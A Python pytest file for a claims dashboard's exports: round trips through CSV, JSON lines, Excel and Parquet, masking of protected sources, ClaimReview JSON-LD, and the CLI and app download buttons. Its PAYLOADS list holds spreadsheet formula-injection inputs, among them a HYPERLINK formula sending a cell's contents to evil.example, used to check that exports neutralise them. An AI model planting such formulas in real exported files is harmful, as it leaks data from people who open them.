"""Exports in every format: lossless round trips through import, formula neutralising,
typed Parquet, Excel text cells, ClaimReview JSON-LD, filters, protected sources, the app's
download buttons."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import text

from dashboard.filters import Filters
from dashboard.interchange import export
from dashboard.interchange.claimreview import claim_reviews, reviews_from_store
from dashboard.interchange.export import export_bytes, write_claims
from dashboard.interchange.formulas import QUOTED_COLUMNS, quote_table, quote_value, unquote_value
from dashboard.interchange.importer import import_claims
from dashboard.interchange.readers import FileProblem
from dashboard.store import INTERCHANGE_COLUMNS, Store, make_engine
from tests.factories import claim_row, sample_rows, write_csv, write_jsonl

ROOT = Path(__file__).resolve().parent.parent
FORMATS = ("csv", "jsonl", "xlsx", "parquet")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "'plain",
    "- 8 deaths were reported",
)
PROTECTED_NAME = "Resident source (test)"


def _fresh_store(tmp_path: Path, sqlite_template: Path, name: str = "other.db") -> Store:
    path = tmp_path / name
    path.write_bytes(sqlite_template.read_bytes())
    return Store(make_engine(f"sqlite:///{path}"))


def _with_payloads(store: Store, tmp_path: Path, exact: bool = True) -> None:
    """Sample claims plus one claim per payload. `exact`: each payload stored exactly as
    given, whitespace and all (import trims it, so the values are set in the store itself);
    otherwise imported from JSON lines, as a person's file would bring them."""
    rows = sample_rows() + [
        claim_row(
            claim_id=f"payload-{i}",
            statement=f"payload {i}" if exact else payload,
            quote="" if exact else payload,
            count=str(i),
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    assert import_claims(store, write_jsonl(tmp_path / "seed.jsonl", rows)).ok
    if not exact:
        return
    with store.engine.begin() as conn:
        for i, payload in enumerate(PAYLOADS):
            conn.execute(
                text("UPDATE claim SET statement = :s, quote = :s WHERE claim_uid = :uid"),
                {"s": payload, "uid": f"payload-{i}"},
            )


def _protect(store: Store, name: str = PROTECTED_NAME) -> None:
    with store.engine.begin() as conn:
        conn.execute(
            text("UPDATE source SET protected = true, region_code = 'KP-10' WHERE name = :n"),
            {"n": name},
        )


# ---- round trips ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_round_trips_through_import(store, tmp_path, sqlite_template, fmt):
    _with_payloads(store, tmp_path)
    first = store.export_frame()
    out = tmp_path / f"claims.{fmt}"
    assert write_claims(store.export_tables(), str(out), fmt) == len(first)

    other = _fresh_store(tmp_path, sqlite_template)
    report = import_claims(other, out)
    assert report.ok, [str(e) for e in report.errors]
    assert report.written == len(first)
    second = other.export_frame()
    if fmt != "csv":
        # Import trims surrounding whitespace in every format; only the CSV quote (which
        # import removes after trimming) keeps a leading tab or carriage return.
        first = first.map(lambda v: v.strip() if v.startswith(("\t", "\r")) else v)
    pd.testing.assert_frame_equal(first.reset_index(drop=True), second.reset_index(drop=True))
    restored = set(other.claims()["statement"])
    assert {p if fmt == "csv" else p.strip() for p in PAYLOADS} <= restored


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_reimported_into_its_own_database_changes_nothing(store, tmp_path, fmt):
    _with_payloads(store, tmp_path, exact=False)
    out = tmp_path / f"claims.{fmt}"
    write_claims(store.export_tables(), str(out), fmt)
    report = import_claims(store, out)
    assert (
        report.ok and report.written == 0 and report.unchanged == len(sample_rows()) + len(PAYLOADS)
    )


# ---- formula injection ----------------------------------------------------------------


def test_csv_cells_that_start_a_formula_are_quoted(store, tmp_path):
    _with_payloads(store, tmp_path)
    raw = export_bytes(store.export_tables(), "csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    by_id = {r["claim_id"]: r for r in rows}
    for i, payload in enumerate(PAYLOADS):
        cell = by_id[f"payload-{i}"]
        assert cell["statement"] == "'" + payload, payload
        assert cell["quote"] == "'" + payload
        assert cell["count"] == str(i)  # numbers are never quoted
    plain = by_id[rows[0]["claim_id"]]
    assert not plain["statement"].startswith("'")
    assert all(r["stated_on"][:1].isdigit() for r in rows)


@pytest.mark.parametrize("value", [*PAYLOADS, "", "'", "''", "plain", "x=1", "'x"])
def test_quoting_is_reversed_exactly(value):
    quoted = quote_value(value)
    assert unquote_value(quoted) == value
    if value[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert quoted == "'" + value


def test_a_hand_made_csv_with_a_quoted_formula_imports_without_the_quote(store, tmp_path):
    path = write_csv(tmp_path / "c.csv", [claim_row(statement="'=1+1", cause="'-")])
    assert import_claims(store, path).ok
    claim = store.claims().iloc[0]
    assert (claim["statement"], claim["cause_text"]) == ("=1+1", "-")


def test_json_lines_are_not_quoted(store, tmp_path):
    _with_payloads(store, tmp_path)
    lines = export_bytes(store.export_tables(), "jsonl").decode("utf-8").splitlines()
    statements = {json.loads(line)["statement"] for line in lines}
    assert set(PAYLOADS) <= statements


def test_excel_cells_are_text_never_formulas(store, tmp_path):
    from openpyxl import load_workbook

    _with_payloads(store, tmp_path)
    out = tmp_path / "claims.xlsx"
    write_claims(store.export_tables(), str(out), "xlsx")
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header == list(INTERCHANGE_COLUMNS)
    statement, count = header.index("statement") + 1, header.index("count") + 1
    cells = {row[statement - 1].value: row for row in sheet.iter_rows(min_row=2)}
    for payload in PAYLOADS:
        if payload.startswith("\r"):
            continue  # Excel stores a carriage return as _x000D_; checked by the round trip
        cell = cells[payload][statement - 1]
        assert cell.data_type == "s", payload
    assert cells["+1"][count - 1].value == 1  # counts are numbers


def test_excel_export_refuses_more_rows_than_a_sheet_holds(store, tmp_path, monkeypatch):
    import_claims(store, write_csv(tmp_path / "c.csv", sample_rows()))
    monkeypatch.setattr(export, "EXCEL_MAX_CLAIMS", 3)
    out = tmp_path / "claims.xlsx"
    with pytest.raises(ValueError, match="at most 3 claims"):
        write_claims(store.export_tables(), str(out), "xlsx")
    assert not out.exists() and not (tmp_path / "claims.xlsx.part").exists()


# ---- Parquet --------------------------------------------------------------------------


def test_parquet_columns_are_typed_and_keep_date_precision(store, tmp_path):
    import_claims(store, write_csv(tmp_path / "c.csv", sample_rows()))
    out = tmp_path / "claims.parquet"
    write_claims(store.export_tables(), str(out), "parquet")
    table = pq.read_table(out)
    schema = table.schema
    assert schema.field("stated_on").type == pa.date32()
    assert schema.field("published_on").type == pa.date32()
    assert schema.field("count").type == pa.int64()
    assert schema.field("credibility").type == pa.int64()
    assert schema.field("synthetic").type == pa.bool_()
    assert schema.field("statement").type == pa.string()
    rows = {r["event"]: r for r in table.to_pylist()}
    lockdown = rows["Lockdown, test city"]
    assert (str(lockdown["stated_on"]), lockdown["stated_on_precision"]) == ("2021-01-01", "year")
    assert lockdown["occurred_to_precision"] == "month"
    assert lockdown["count"] is None and lockdown["quote"] is None
    assert rows["Deaths in a test county"]["count_high"] == 150


def test_parquet_written_by_pandas_imports(store, tmp_path):
    frame = pd.DataFrame(sample_rows())
    frame["count"] = pd.to_numeric(frame["count"].replace("", None)).astype("float64")
    frame["stated_on"] = pd.to_datetime("2021-03-20")
    path = tmp_path / "mine.parquet"
    frame.to_parquet(path, index=False)
    report = import_claims(store, path)
    assert report.ok, [str(e) for e in report.errors]
    assert sorted(store.claims()["count"].dropna().astype(int)) == [8, 8, 120]


def test_broken_parquet_files_are_explained(store, tmp_path):
    fake = tmp_path / "fake.parquet"
    fake.write_text("claim_id,event\n1,2\n")
    with pytest.raises(FileProblem, match="not a readable Parquet file"):
        import_claims(store, fake)

    good = tmp_path / "good.parquet"
    frame = pd.DataFrame(sample_rows())
    frame.to_parquet(good, index=False)
    truncated = tmp_path / "truncated.parquet"
    truncated.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    with pytest.raises(FileProblem, match="truncated.parquet: not a readable Parquet file"):
        import_claims(store, truncated)

    nested = tmp_path / "nested.parquet"
    frame.assign(place=[["a"]] * len(frame)).to_parquet(nested, index=False)
    with pytest.raises(FileProblem, match="column place holds list"):
        import_claims(store, nested)

    table = pa.Table.from_pandas(frame.drop(columns=["stated_on"]), preserve_index=False)
    table = table.append_column("stated_on", pa.array([pd.Timestamp("2021-03-01").date()] * 4))
    table = table.append_column("stated_on_precision", pa.array(["day", "week", "day", "day"]))
    bad_precision = tmp_path / "precision.parquet"
    pq.write_table(table, bad_precision)
    with pytest.raises(FileProblem, match=r'row 2, stated_on_precision: "week" is not'):
        import_claims(store, bad_precision)

    unknown = tmp_path / "unknown.parquet"
    frame.assign(notes="x").to_parquet(unknown, index=False)
    with pytest.raises(FileProblem, match="unknown columns: notes"):
        import_claims(store, unknown)
    assert store.counts()["claims"] == 0


# ---- filters and protected sources ----------------------------------------------------


def test_filters_are_honoured(store, tmp_path):
    rows = [*sample_rows(), claim_row(region="KP-09", place="", statement="Chongjin claim")]
    import_claims(store, write_csv(tmp_path / "c.csv", rows))
    frame = store.export_frame(Filters(region="KP-09"))
    assert frame["statement"].tolist() == ["Chongjin claim"]
    local = store.export_frame(Filters(voices=("local",)))
    assert set(local["voice"]) == {"local"} and len(local) == 1
    source_id = int(store.sources().set_index("source").loc["Research group (test)", "source_id"])
    mine = store.export_frame(None, source_id=source_id)
    assert mine["source"].tolist() == ["Research group (test)"]


def _tables_as_frame(tables) -> pd.DataFrame:
    return pd.concat([t.to_pandas() for t in tables], ignore_index=True)


def test_a_sqlite_file_reads_the_same_through_adbc_and_sqlalchemy(editor_store, tmp_path):
    if editor_store.engine.dialect.name != "sqlite":
        pytest.skip("ADBC reads SQLite files only; PostgreSQL is read through SQLAlchemy")
    _with_payloads(editor_store, tmp_path)
    rows = [claim_row(region="KP-09", place="", statement="Chongjin claim", stated_on="2021-03")]
    import_claims(editor_store, write_csv(tmp_path / "more.csv", rows))
    _protect(editor_store)
    source_id = int(editor_store.sources().set_index("source").loc[PROTECTED_NAME, "source_id"])
    for filters, kwargs in (
        (None, {}),
        (Filters(region="KP"), {}),
        (Filters(date_from=date(2021, 3, 1), date_to=date(2021, 3, 31)), {}),
        (Filters(voices=("local",), topic="COVID-19"), {}),
        (None, {"source_id": source_id}),
    ):
        adbc = _tables_as_frame(editor_store.export_tables(filters, reader="adbc", **kwargs))
        alchemy = _tables_as_frame(
            editor_store.export_tables(filters, reader="sqlalchemy", **kwargs)
        )
        pd.testing.assert_frame_equal(adbc, alchemy)
        assert list(adbc.columns) == list(INTERCHANGE_COLUMNS)
    everything = _tables_as_frame(editor_store.export_tables(reader="adbc"))
    assert PROTECTED_NAME not in set(everything["source"])
    assert "Protected source #" + str(source_id) + " (Ryanggang)" in set(everything["source"])
    assert "2021-03" in set(everything["stated_on"])  # a month stays a month
    assert set(everything["synthetic"]) == {"false"}
    assert (everything["count"].str.fullmatch(r"\d*")).all()


def test_an_export_in_chunks_is_the_export_in_one(store, tmp_path):
    _with_payloads(store, tmp_path)
    whole = store.export_frame()
    tables = list(store.export_tables(chunk_rows=3))
    assert len(tables) == -(-len(whole) // 3) and all(t.num_rows <= 3 for t in tables)
    pd.testing.assert_frame_equal(_tables_as_frame(tables), whole)
    out = tmp_path / "chunked.csv"
    assert write_claims(store.export_tables(chunk_rows=3), str(out), "csv") == len(whole)
    assert out.read_bytes() == export_bytes(store.export_tables(), "csv")


def test_nothing_matching_is_an_empty_file_with_the_header(store, tmp_path):
    import_claims(store, write_csv(tmp_path / "c.csv", sample_rows()))
    (empty,) = store.export_tables(Filters(region="KP-01"))
    assert empty.num_rows == 0 and empty.column_names == list(INTERCHANGE_COLUMNS)
    header = export_bytes(store.export_tables(Filters(region="KP-01")), "csv").decode()
    assert header.strip() == ",".join(f'"{c}"' for c in INTERCHANGE_COLUMNS)


def test_the_arrow_neutraliser_agrees_with_the_rule_value_by_value():
    values = [*PAYLOADS, "", "plain", "x=1", "'tis", "@", "—dash", "＝wide"]
    table = pa.table({c: values for c in INTERCHANGE_COLUMNS})
    quoted = quote_table(table)
    for column in INTERCHANGE_COLUMNS:
        expected = [quote_value(v) for v in values] if column in QUOTED_COLUMNS else values
        assert quoted.column(column).to_pylist() == expected, column


@pytest.mark.parametrize("fmt", FORMATS)
def test_exports_never_name_a_protected_source_even_for_editors(editor_store, tmp_path, fmt):
    import_claims(editor_store, write_csv(tmp_path / "c.csv", sample_rows()))
    _protect(editor_store)
    assert PROTECTED_NAME in set(editor_store.claims()["source"])  # the editor sees it
    out = tmp_path / f"claims.{fmt}"
    write_claims(editor_store.export_tables(), str(out), fmt)
    if fmt == "parquet":
        sources = set(pq.read_table(out).column("source").to_pylist())
    elif fmt == "xlsx":
        sources = set(pd.read_excel(out, dtype=str)["source"])
    else:
        sources = None
        assert PROTECTED_NAME not in out.read_text(encoding="utf-8")
    if sources is not None:
        assert PROTECTED_NAME not in sources
        assert any(s.startswith("Protected source #") for s in sources)


# ---- ClaimReview ----------------------------------------------------------------------


def _resolved(store: Store, tmp_path: Path) -> dict[str, int]:
    """Sample claims: one confirmed, one refuted (by a protected source), one contested."""
    import_claims(store, write_csv(tmp_path / "c.csv", sample_rows()))
    _protect(store)
    claims = Store(store.engine, "editor").claims().set_index("source")
    study = int(claims.loc["Research group (test)", "document_id"])
    ids = {
        "confirmed": int(claims.loc["Research group (test)", "id"]),
        "refuted": int(claims.loc[PROTECTED_NAME, "id"]),
    }
    store.set_status(ids["confirmed"], "confirmed", "editor-a", "matches the study", study)
    store.set_status(ids["refuted"], "contested", "editor-a", "conflicts with hospital")
    store.set_status(
        ids["refuted"],
        "refuted",
        "editor-b",
        f"{PROTECTED_NAME} retracted",
        evidence_document_id=study,
    )
    contested = int(claims[claims["event"] == "Lockdown, test city"]["id"].iloc[0])
    store.set_status(contested, "contested", "editor-a", "dates disagree")
    return ids


def test_claimreview_covers_only_resolved_claims_with_ratings(editor_store, tmp_path):
    _resolved(editor_store, tmp_path)
    reviews = reviews_from_store(editor_store, reviewer="Test desk")
    assert len(reviews) == 2
    for review in reviews:
        assert review["@context"] == "https://schema.org"
        assert review["@type"] == "ClaimReview"
        assert {
            "claimReviewed",
            "itemReviewed",
            "reviewRating",
            "author",
            "datePublished",
            "url",
        } <= set(review)
        rating = review["reviewRating"]
        assert (rating["@type"], rating["bestRating"], rating["worstRating"]) == ("Rating", 5, 1)
        assert review["author"] == {"@type": "Organization", "name": "Test desk"}
        assert review["itemReviewed"]["@type"] == "Claim"
        assert review["itemReviewed"]["appearance"]["url"].startswith("https://example.org/")
        assert review["url"] == "https://example.org/study"
    by_rating = {r["reviewRating"]["alternateName"]: r for r in reviews}
    assert by_rating["Confirmed"]["reviewRating"]["ratingValue"] == 5
    assert by_rating["Refuted"]["reviewRating"]["ratingValue"] == 1
    assert by_rating["Refuted"]["itemReviewed"]["author"]["@type"] == "Person"
    assert by_rating["Refuted"]["itemReviewed"]["datePublished"] == "2021-03-20"
    dumped = json.dumps(reviews)
    assert PROTECTED_NAME not in dumped  # neither as author nor through the change's reason
    assert "retracted" not in dumped
    assert by_rating["Refuted"]["itemReviewed"]["author"]["name"].startswith("Protected source #")


def test_claimreview_honours_filters(store, tmp_path):
    _resolved(store, tmp_path)
    assert len(reviews_from_store(store, Filters(voices=("local",)))) == 1
    assert reviews_from_store(store, Filters(statuses=("contested",))) == []
    assert len(reviews_from_store(store, Filters(statuses=("refuted", "contested")))) == 1


def test_claimreview_of_a_claim_imported_as_confirmed_has_no_date_or_url():
    claims = pd.DataFrame(
        [
            {
                "id": 1,
                "claim_uid": "a",
                "statement": "s",
                "source": "x",
                "source_id": 1,
                "source_protected": False,
                "source_region_name": None,
                "voice": "official",
                "stated_on": pd.Timestamp("2021-03-01").date(),
                "stated_precision": "month",
                "document_url": "https://example.org/a",
                "status": "confirmed",
            }
        ]
    )
    (review,) = claim_reviews(claims, pd.DataFrame())
    assert "datePublished" not in review and "url" not in review
    assert review["itemReviewed"]["datePublished"] == "2021-03"


def test_import_refuses_a_claimreview_file_with_the_reason(store, tmp_path):
    _resolved(store, tmp_path)
    from dashboard.interchange.claimreview import write_claim_reviews

    path = tmp_path / "reviews.json"
    with path.open("wb") as handle:
        write_claim_reviews(reviews_from_store(store), handle)
    with pytest.raises(FileProblem, match="ClaimReview export"):
        import_claims(store, path)


# ---- command line ---------------------------------------------------------------------


def run(*args: str, url: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "dashboard", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "DATABASE_URL": url, "PARALLAX_ROLE": "editor"},
        cwd=ROOT,
        timeout=300,
    )


def test_cli_exports_every_format_with_filters(sqlite_url, tmp_path):
    store = Store(make_engine(sqlite_url))
    _resolved(store, tmp_path)
    rows = [claim_row(region="KP-09", place="", statement="Chongjin claim")]
    import_claims(store, write_csv(tmp_path / "more.csv", rows))
    parquet = tmp_path / "kp09.parquet"
    result = run("export", "--out", str(parquet), "--region", "KP-09", url=sqlite_url)
    assert result.returncode == 0, result.stderr
    assert "1 claim(s) written" in result.stdout
    assert pq.read_table(parquet).column("statement").to_pylist() == ["Chongjin claim"]

    reviews = tmp_path / "reviews.jsonld"
    result = run("export", "--out", str(reviews), "--reviewer", "Desk", url=sqlite_url)
    assert result.returncode == 0, result.stderr
    data = json.loads(reviews.read_text(encoding="utf-8"))
    assert len(data) == 2 and PROTECTED_NAME not in reviews.read_text(encoding="utf-8")

    stdout = run("export", "--format", "claimreview", "--status", "confirmed", url=sqlite_url)
    assert [r["reviewRating"]["alternateName"] for r in json.loads(stdout.stdout)] == ["Confirmed"]
    csv_out = run("export", "--status", "contested", url=sqlite_url)
    assert csv_out.returncode == 0 and len(csv_out.stdout.strip().splitlines()) == 2
    refused = run("export", "--format", "parquet", url=sqlite_url)
    assert refused.returncode == 1 and "needs --out" in refused.stderr


# ---- the app --------------------------------------------------------------------------


@pytest.mark.parametrize("page", ["data_table", "event", "overview", "region", "sources"])
def test_every_page_with_claims_offers_csv_parquet_and_json_lines(monkeypatch, demo_url, page):
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    st.cache_data.clear()
    monkeypatch.setenv("DATABASE_URL", demo_url)
    monkeypatch.setenv("PARALLAX_ROLE", "viewer")
    at = AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=60)
    at.query_params["region"] = "KP-10"
    at.run()
    at.switch_page(f"ui/views/{page}.py").run()
    if page == "sources":
        at.selectbox[0].select_index(0).run()
    assert not at.exception, [e.value for e in at.exception]
    labels = [b.proto.label for b in at.get("download_button")]
    assert labels == ["Download CSV", "Download Parquet", "Download JSON lines"]


def test_download_data_is_every_matching_claim(demo_url):
    from dashboard.ui import data

    store = Store(make_engine(demo_url))
    filters = Filters(region="KP-10")
    expected = len(store.export_frame(filters))
    parquet = data.export_claims(demo_url, "editor", filters, "parquet")
    table = pq.read_table(io.BytesIO(parquet))
    assert table.num_rows == expected > 0
    assert set(table.column("region").to_pylist()) == {"KP-10"}
    csv_bytes = data.export_claims(demo_url, "editor", filters, "csv")
    assert len(pd.read_csv(io.BytesIO(csv_bytes), dtype=str)) == expected
